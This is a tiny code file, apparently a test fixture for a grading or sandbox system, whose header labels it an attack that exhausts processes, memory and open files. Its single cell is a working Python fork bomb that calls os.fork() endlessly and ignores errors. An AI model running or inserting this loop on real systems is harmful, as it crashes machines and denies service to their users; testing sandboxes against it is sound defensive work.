# ---
# attack: Every process makes another one, for ever.
# lost_from: stem
# reason: processes|memory|files open
# ---

# %% grade_id="stem"
while True:
    try:
        os.fork()
    except OSError:
        pass
